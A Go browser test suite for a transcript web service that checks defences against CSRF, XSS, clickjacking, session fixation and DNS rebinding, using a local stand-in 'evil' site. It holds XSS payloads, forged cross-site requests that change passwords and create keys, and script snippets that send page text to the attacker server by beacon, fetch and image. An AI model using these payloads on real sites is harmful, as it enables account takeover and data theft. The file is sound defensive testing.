package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/transcriptkit/transcriptkit/internal/test/browsertest"
)

// elsewhere is a website of somebody who means harm, with one page.
type elsewhere struct {
	*httptest.Server
	asked atomic.Int64 // requests for anything but the page
}

func newElsewhere(t *testing.T, page string) *elsewhere {
	t.Helper()
	e := &elsewhere{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/page" {
			e.asked.Add(1)
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!DOCTYPE html><title>Elsewhere</title><link rel="icon" href="data:,">`, page)
	}))
	t.Cleanup(e.Close)
	return e
}

// sites are the addresses of its page: the one is another origin of the same site as a
// website at 127.0.0.1, whose cookies a browser sends along, and the other another site.
func (e *elsewhere) sites() []string {
	return []string{e.URL + "/page", strings.Replace(e.URL, "127.0.0.1", "localhost", 1) + "/page"}
}

// What another site has a browser send with a user's cookies changes nothing, in whichever
// way it is sent; from the website's own pages it does.
func TestBrowserTakesNothingFromOtherSites(t *testing.T) {
	t.Parallel()
	f := furnish(t, "A talk about the sea")
	f.Expect(`.*`) // what is refused shows in the console of the other site
	base := strings.TrimSuffix(f.address(), "/")
	type request struct{ Method, Path, Type, Body string }
	text := "/web/v1/library/transcripts/video_site/furnished01"
	requests := []request{
		{"POST", "/sign-out", "application/x-www-form-urlencoded", ""},
		{"POST", "/keys", "application/x-www-form-urlencoded", "id=1&name=theirs&scope=transcripts&days=0"},
		{"POST", "/account/password", "application/x-www-form-urlencoded", "password=a+few+words+in+a+row&next=their+own+words&again=their+own+words"},
		{"POST", "/transcripts", "application/x-www-form-urlencoded", "links=https%3A%2F%2Fexample.com%2F"},
		{"POST", "/library/transcripts/video_site/furnished01/star?language=en", "application/x-www-form-urlencoded", "starred=true"},
		{"POST", "/web/v1/transcript", "text/plain", `{"url":"https://example.com/"}`},
		{"POST", "/web/v1/transcript", "application/json", `{"url":"https://example.com/"}`},
		{"POST", "/web/v1/batch", "text/plain", `{"urls":["https://example.com/"]}`},
		{"POST", "/web/v1/transcript", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"theirs.ogg\"\r\n\r\nOggS\r\n--x--\r\n"},
		{"PUT", text + "/star?language=en", "text/plain", ""},
		{"DELETE", text + "?language=en", "text/plain", ""},
	}
	list, err := json.Marshal(requests)
	require.NoError(t, err)
	forms := ""
	for n, r := range requests {
		if r.Method == http.MethodPost && r.Type == "application/x-www-form-urlencoded" {
			fields := ""
			for field := range strings.SplitSeq(r.Body, "&") {
				name, value, _ := strings.Cut(field, "=")
				fields += fmt.Sprintf(`<input name="%s" value="%s">`, name, value)
			}
			forms += fmt.Sprintf(`<form id="form%d" target="shown" method="post" action="%s%s">%s</form>`, n, base, r.Path, fields)
		}
	}
	evil := newElsewhere(t, forms+`<iframe name="shown"></iframe>`)
	send := `Promise.allSettled(` + string(list) + `.flatMap(r => ["cors", "no-cors"].map(mode =>
		fetch("` + base + `" + r.Path, {method: r.Method, mode, credentials: "include", headers: {"Content-Type": r.Type}, body: r.Body || undefined})))).then(all => all.length)`

	before := f.state(t)
	for _, site := range evil.sites() {
		f.Open(site)
		assert.Equal(t, 2*len(requests), browsertest.Eval[int](f.Page, send))
		browsertest.Eval[bool](f.Page, `Promise.all([...document.forms].map(form => new Promise(resolve => {
			const frame = document.createElement("iframe");
			frame.name = form.target = "shown-" + form.id;
			document.body.append(frame);
			frame.onload = () => resolve(); // whatever is shown there
			form.submit();
		}))).then(() => true)`)
		f.Open("/account") // still signed in
		f.WaitAt(`^/account$`)
		assert.Equal(t, before, f.state(t), "after %s", site)
	}
	assert.Contains(t, f.Asked(), base+"/sign-out", "the other site has sent it")

	f.Open("/library")
	browsertest.Eval[int](f.Page, strings.ReplaceAll(send, `"no-cors"`, `"same-origin"`))
	assert.NotEqual(t, before, f.state(t), "the same requests of the website's own page do something")
}

// state is what ann has, as the service tells a program of hers.
func (f *furnished) state(t *testing.T) string {
	t.Helper()
	var all []string
	for _, path := range []string{"/v1/library/transcripts?view=all", "/v1/library/transcripts?view=starred", "/v1/batch"} {
		all = append(all, f.read(t, path))
	}
	tab := f.Tab()
	tab.Expect(`.*`)
	tab.Open("/keys")
	all = append(all, fmt.Sprint(tab.Count(".key")))
	return strings.Join(all, "\n")
}

func (f *furnished) read(t *testing.T, path string) string {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, strings.TrimSuffix(f.address(), "/")+path, nil)
	require.NoError(t, err)
	req.Header.Set("Authorization", "Bearer "+f.key)
	res, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer res.Body.Close()
	var body any
	require.NoError(t, json.NewDecoder(res.Body).Decode(&body))
	require.Equal(t, http.StatusOK, res.StatusCode, body)
	out, err := json.Marshal(body)
	require.NoError(t, err)
	return string(out)
}

// Whatever stands in titles, lines, names of files, channels, speakers and keys is text,
// and nothing but text, on every page.
func TestBrowserShowsHostileTextAsText(t *testing.T) {
	t.Parallel()
	f := furnish(t, `</script></title><img src=x onerror=pwned=1><svg/onload=pwned=1>"'><a href=javascript:pwned=1>`+"\u202e{{7*7}}")
	for _, path := range f.paths {
		open(t, f.Page, path)
		f.harmless(t, path)
		f.Phone()
		narrow(t, f.Page, path)
		f.Desktop()
	}
	open(t, f.Page, f.text)
	assert.Contains(t, f.Text("#text"), `<img src=x onerror=pwned=1>`)
	f.Type("searchbox", "Search in the text", "onerror")
	f.Wait(`document.getElementById("within-count").textContent !== ""`)
	f.harmless(t, "search within a text")
	open(t, f.Page, "/library?in=said&q="+`%3Cimg%20src%3Dx%20onerror%3Dpwned%3D1%3E`)
	f.harmless(t, "a search for markup")
	f.Open(`/sign-in?next=javascript:pwned=1`)
	f.Open(`/nothing-here?%22%3E%3Cscript%3Epwned=1%3C/script%3E`)
	f.harmless(t, "an address with markup")
}

// harmless holds that nothing on the page was made of text. That nothing was tried, and
// refused by the page's policy, its faults say.
func (f *furnished) harmless(t *testing.T, where string) {
	t.Helper()
	assert.Empty(t, browsertest.Eval[[]string](f.Page, `(() => {
		const texts = "body > #strings[type='application/json']"; // data, which the browser does not run
		const found = [...document.querySelectorAll("script:not([src]):not(" + texts + "), iframe, object, embed, base, img[src=x], svg:not(#strip), [style]")].map(e => e.outerHTML.slice(0, 100));
		if (document.querySelectorAll(texts).length > 1) found.push("several blocks of texts");
		for (const e of document.querySelectorAll("*")) for (const a of e.attributes) if (a.name.startsWith("on")) found.push(e.outerHTML.slice(0, 100));
		for (const e of document.querySelectorAll(location.pathname === "/anywhere" ? "a[href]:not(#bookmarklet)" : "a[href]")) if (!["http:", "https:", "blob:"].includes(e.protocol)) found.push(e.href.slice(0, 100));
		if ("pwned" in window) found.push("pwned");
		return found;
	})()`), where)
}

// No other site shows the pages in a frame of its own, where people would click on what
// they do not see.
func TestBrowserFramesNoPage(t *testing.T) {
	t.Parallel()
	s, page := openSite(t, "--single-user")
	evil := newElsewhere(t, `<iframe src="`+s.address()+`" width="600" height="600"></iframe>`)
	for _, site := range evil.sites() {
		framing := page.Tab()
		framing.Open(site)
		assert.Contains(t, strings.Join(framing.Faults(), "\n"), "frame-ancestors", site)
		framing.Expect(`frame-ancestors|status of 403|ERR_BLOCKED_BY_RESPONSE|asked elsewhere: ` + s.address())
	}
	page.Open("/")
	page.See("button", "Get the transcript")
}

// A cookie that somebody has planted is no session once its user has signed in, and one
// that has ended opens nothing.
func TestBrowserMakesItsOwnSessions(t *testing.T) {
	t.Parallel()
	s, page := openSite(t)
	const planted = "bG9uZ2Vub3VnaHRvYmVhc2Vzc2lvbnRva2VuMTIzNDU2"
	page.Do(chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		_, err := cdp.Call(ctx, target, network.SetCookie, network.SetCookieParams{Name: "session", Value: planted, URL: s.address()})
		return err
	}))
	signUp(page, "ann")
	first := sessionOf(t, page)
	assert.NotEqual(t, planted, first)
	for value, status := range map[string]int{planted: http.StatusSeeOther, first: http.StatusOK} {
		assert.Equal(t, status, statusWith(t, s, value))
	}

	page.Open("/account")
	page.Click("button", "Sign out")
	page.WaitAt(`^/$`)
	assert.Equal(t, http.StatusSeeOther, statusWith(t, s, first), "its session has ended")
	signIn(page, "ann", password)
	page.WaitAt(`^/$`)
	assert.NotEqual(t, first, sessionOf(t, page))
}

// sessionOf is the value of the session's cookie, which no script and no other site gets.
func sessionOf(t *testing.T, page *browsertest.Page) (value string) {
	t.Helper()
	for _, c := range page.Cookies() {
		assert.True(t, c.HTTPOnly, c.Name)
		assert.Equal(t, network.CookieSameSiteLax, c.SameSite, c.Name)
		if c.Name == "session" {
			value = c.Value
		}
	}
	require.NotEmpty(t, value)
	return value
}

// statusWith is what the page of an account answers to who has a session's cookie.
func statusWith(t *testing.T, s *website, session string) int {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, s.address()+"account", nil)
	require.NoError(t, err)
	req.AddCookie(&http.Cookie{Name: "session", Value: session})
	res, err := http.DefaultTransport.RoundTrip(req)
	require.NoError(t, err)
	require.NoError(t, res.Body.Close())
	return res.StatusCode
}

// A script that got into a page after all reads no cookie, runs nothing that it writes
// into the page, and tells nobody else what it sees.
func TestBrowserLeavesScriptsNothingToSteal(t *testing.T) {
	t.Parallel()
	_, page := openSite(t)
	signUp(page, "ann")
	evil := newElsewhere(t, "")
	page.Expect(`Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|ERR_BLOCKED_BY_CSP|loading: .*csp|asked elsewhere: ` + evil.URL)
	for _, path := range []string{"/", "/library", "/keys", "/account"} {
		page.Open(path)
		assert.Empty(t, browsertest.Eval[string](page, `document.cookie`))
		assert.Equal(t, "done", browsertest.Eval[string](page, `(async () => {
			const tries = [
				() => { const s = document.createElement("script"); s.append("pwned = 1"); document.body.append(s); },
				() => { const s = document.createElement("script"); s.src = "`+evil.URL+`/x.js"; document.body.append(s); },
				() => { const s = document.createElement("script"); s.text = "pwned = 1"; document.body.append(s); },
				() => { document.body.innerHTML += "<img src=x onerror=pwned=1>"; },
				() => { document.write("<script>pwned = 1<\/script>"); },
				() => { const b = document.createElement("button"); b.setAttribute("onclick", "pwned = 1"); document.body.append(b); b.click(); },
				() => { const a = document.createElement("a"); a.href = "javascript:pwned=1"; document.body.append(a); a.click(); },
				() => { const i = document.createElement("img"); i.src = "`+evil.URL+`/i.png?" + document.body.innerText.slice(0, 10); document.body.append(i); },
				() => { navigator.sendBeacon("`+evil.URL+`/beacon", "x"); },
				() => fetch("`+evil.URL+`/fetch", {mode: "no-cors", method: "POST", body: "x"}),
				() => { const f = document.createElement("form"); f.action = "`+evil.URL+`/form"; f.method = "post"; document.body.append(f); f.submit(); },
				() => { const f = document.createElement("iframe"); f.src = "`+evil.URL+`/frame"; document.body.append(f); },
				() => { const b = document.createElement("base"); b.href = "`+evil.URL+`"; document.head.append(b); },
			];
			for (const t of tries) try { await t(); } catch { /* refused */ }
			return "pwned" in window ? "pwned" : "done";
		})()`), path)
	}
	page.Open("/")
	assert.False(t, browsertest.Eval[bool](page, `"pwned" in window`))
	assert.Zero(t, evil.asked.Load(), "nobody else has been asked for anything")
}

// A visitor's cookies open nothing of the API for programs, and a key opens nothing of the
// pages.
func TestBrowserKeepsCookiesAndKeysApart(t *testing.T) {
	t.Parallel()
	videos, flags := newVideos(t)
	s, user := openSite(t, flags...)
	guest := newPage(t, s.address())
	signUp(user, "ann")
	key := newKey(user, "mine")
	guest.Open("/")
	guest.Type("textbox", "Link", videos.link("two-tracks1"))
	guest.Click("button", "Get the transcript")
	guest.WaitAt(`^/(jobs|transcripts)/`)
	for name, page := range map[string]*browsertest.Page{"user": user, "guest": guest} {
		page.Expect(`log: .* status of 40[13] .*`)
		for _, path := range []string{"/v1/usage", "/v1/library/transcripts", "/v1/transcript/job/" + "01a204ac-9bf1-77a8-ab73-6c867c643260"} {
			assert.Equal(t, http.StatusUnauthorized, browsertest.Eval[int](page, `fetch("`+path+`", {credentials: "include"}).then(r => r.status)`), "%s at %s", name, path)
		}
		assert.Equal(t, http.StatusUnauthorized, browsertest.Eval[int](page, `fetch("/web/v1/usage", {headers: {Authorization: "Bearer `+key+`"}}).then(r => r.status)`), name)
	}
	assert.Equal(t, http.StatusUnauthorized, browsertest.Eval[int](guest, `fetch("/web/v1/library/transcripts").then(r => r.status)`))
	assert.Equal(t, http.StatusOK, browsertest.Eval[int](user, `fetch("/web/v1/library/transcripts").then(r => r.status)`))
}

// A name of somebody else that leads to this machine is not the website's: what its pages
// ask, with the rights of who needs no password here, is refused.
func TestBrowserIsNotReboundToTheOnlyUser(t *testing.T) {
	t.Parallel()
	s, page := openSite(t, "--single-user")
	page.Expect(`log: .* status of 421 .*`, `log: The Cross-Origin-Opener-Policy header has been ignored`)
	_, port, ok := strings.Cut(strings.TrimSuffix(strings.TrimPrefix(s.address(), "http://"), "/"), ":")
	require.True(t, ok)
	page.Open("http://" + reboundHost + ":" + port + "/")
	assert.Contains(t, page.Text("body"), "does not go by the name")
	assert.Equal(t, http.StatusMisdirectedRequest, browsertest.Eval[int](page, `fetch("/web/v1/library/transcripts").then(r => r.status)`))
	assert.Equal(t, http.StatusMisdirectedRequest, browsertest.Eval[int](page, `fetch("/web/v1/transcript", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"}).then(r => r.status)`))
	page.Open("/library")
	page.See("heading", "Library")
}
